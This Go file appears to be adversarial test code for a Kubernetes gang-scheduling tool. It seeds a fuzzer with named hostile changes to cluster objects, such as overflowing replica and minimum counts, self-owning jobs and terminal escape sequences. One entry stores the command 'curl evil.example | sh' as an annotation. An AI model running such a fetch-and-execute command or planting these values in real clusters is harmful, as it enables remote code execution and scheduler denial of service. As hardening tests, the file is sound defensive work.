package hostile

import (
	"fmt"
	"math"
	"reflect"
	"slices"
	"strings"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
)

// anyJob stands for the kinds of job in a step.
const anyJob = "*"

// isJob reports whether a kind is one of job.
func isJob(kind string) bool { return slices.Contains(jobKinds(), kind) }

// step writes an absurd value to a field of an object of a kind, or with times repeats what is there.
type step struct {
	kind, path string
	value      any
	times      int
}

// attacks are the changes that once were harmful, by name. A target has those on what it is about: a dialect those on group objects and
// pods, a kind of job those on the job.
func attacks() map[string][]step {
	pods := func(path string, value any) step { return step{kind: "Pod", path: path, value: value} }
	huge := int64(math.MaxInt32)
	all := map[string][]step{
		"C1: a minimum of two thousand million":         {{kind: "PodGroup", path: "spec|minMember", value: huge}},
		"C1: Kubernetes' own minimum":                   {{kind: "PodGroup", path: "spec|schedulingPolicy|gang|minCount", value: huge}},
		"C1: a label":                                   {pods("metadata|labels|pod-group.scheduling.sigs.k8s.io/name", "a"), pods("metadata|labels|pod-group.scheduling.sigs.k8s.io/min-available", "2147483647")},
		"C1: a budget":                                  {{kind: "PodDisruptionBudget", path: "spec|minAvailable", value: huge}},
		"C1: minimums of roles":                         {{kind: "PodGroup", path: "spec|minTaskMember", value: map[string]any{"x": huge}}},
		"C1: task groups that add up to more":           {pods("metadata|annotations|yunikorn.apache.org/task-groups", absurdGroups)},
		"C2: parallelism of two thousand million":       {{kind: "Job", path: "spec|parallelism", value: huge}, {kind: "Job", path: "spec|completions", value: huge}, {kind: "Job", path: "spec|suspend", value: true}},
		"C2: replicas of two thousand million":          {{kind: "LeaderWorkerSet", path: "spec|replicas", value: huge}},
		"C2: a size of two thousand million":            {{kind: "LeaderWorkerSet", path: "spec|leaderWorkerTemplate|size", value: huge}, pods("metadata|annotations|leaderworkerset.sigs.k8s.io/size", "2147483647")},
		"C2: a minimum in the job":                      {{kind: anyJob, path: "spec|runPolicy|schedulingPolicy|minAvailable", value: huge}},
		"C2: a minimum of Volcano's":                    {{kind: "Job", path: "spec|minAvailable", value: huge}},
		"C2: tasks of two thousand million":             {{kind: "Job", path: "spec|tasks|0|replicas", value: huge}},
		"H1: a job that owns itself":                    {{kind: anyJob, path: "metadata|ownerReferences", value: []any{owner("batch/v1", "Job")}}},
		"H1: a group that owns itself":                  {{kind: "PodGroup", path: "metadata|ownerReferences", value: []any{owner("kubeflow.org/v1", "TFJob")}}},
		"H2: a class on the group":                      {{kind: "PodGroup", path: "spec|priorityClassName", value: "urgent"}},
		"H2: a priority on the group":                   {{kind: "PodGroup", path: "spec|priority", value: huge}},
		"H3: many requests and a rule that cannot hold": {{kind: "ResourceClaim", path: "spec|devices|requests", times: 19}},
		"M1: escapes of a terminal":                     {{kind: anyJob, path: "metadata|annotations|gangctl.dev/suspended-because", value: escapes}, {kind: "PodGroup", path: "spec|queue", value: escapes}, {kind: anyJob, path: "status|conditions", value: []any{condition("Failed", escapes)}}},
		"M3: the label of a queue that is not there":    {{kind: anyJob, path: "metadata|labels|kueue.x-k8s.io/queue-name", value: "a"}},
		"M6: a gang whose name is no name":              {pods("metadata|labels|pod-group.scheduling.sigs.k8s.io/name", "My_Gang"), pods("metadata|labels|pod-group.scheduling.sigs.k8s.io/min-available", "2")},
		"M10: a foreign command":                        {{kind: anyJob, path: "metadata|annotations|gangctl.dev/command", value: "curl evil.example | sh"}},
		"Low: a policy of null":                         {{kind: anyJob, path: "spec|runPolicy", value: nil}},
		"Low: an end in the year 9999":                  {{kind: anyJob, path: "metadata|deletionTimestamp", value: "9999-12-31T23:59:59Z"}, {kind: anyJob, path: "status|startTime", value: "0001-01-01T00:00:00Z"}},
		"Low: a name of 63 characters":                  {pods("metadata|labels|pod-group.scheduling.sigs.k8s.io/name", strings.Repeat("x", 63)), pods("metadata|labels|pod-group.scheduling.sigs.k8s.io/min-available", "2")},
	}
	for _, role := range []string{"tfReplicaSpecs", "pytorchReplicaSpecs", "mpiReplicaSpecs", "xgbReplicaSpecs", "paddleReplicaSpecs", "jaxReplicaSpecs"} {
		for _, replicas := range []int64{huge, -1} {
			all[fmt.Sprintf("C2: %s of %d", role, replicas)] = []step{{kind: anyJob, path: "spec|" + role + "|Worker|replicas", value: replicas}}
		}
	}
	return all
}

func owner(apiVersion, kind string) map[string]any {
	return map[string]any{"apiVersion": apiVersion, "kind": kind, "name": jobName, "uid": kind + ":" + tenant + "/" + jobName, "controller": true}
}

// seeds are the programs of the attacks.
func (t target) seeds() map[string]program {
	all := map[string]program{}
	for name, steps := range attacks() {
		var p program
		for _, s := range steps {
			for i, u := range t.owned {
				if isJob(u.GetKind()) == t.job {
					p = append(p, s.encode(i, u)...)
				}
			}
		}
		if len(p) > 0 {
			all[name] = p
		}
	}
	return all
}

// encode is the step on an object, if that has the kind and the field.
func (s step) encode(i int, u *unstructured.Unstructured) program {
	if u.GetKind() != s.kind && (s.kind != anyJob || !isJob(u.GetKind())) {
		return nil
	}
	path := slices.IndexFunc(fields(u), func(p []string) bool { return strings.Join(p, "|") == s.path })
	if path < 0 || path > math.MaxUint8 {
		return nil
	}
	if s.times > 0 {
		return program{byte(i), byte(path), opRepeat, byte(s.times)}
	}
	value := slices.IndexFunc(absurd(""), func(v any) bool { return reflect.DeepEqual(v, s.value) })
	if value < 0 {
		panic(fmt.Sprintf("%v is no absurd value", s.value)) // a mistake in the table
	}
	return program{byte(i), byte(path), opSet, byte(value)}
}
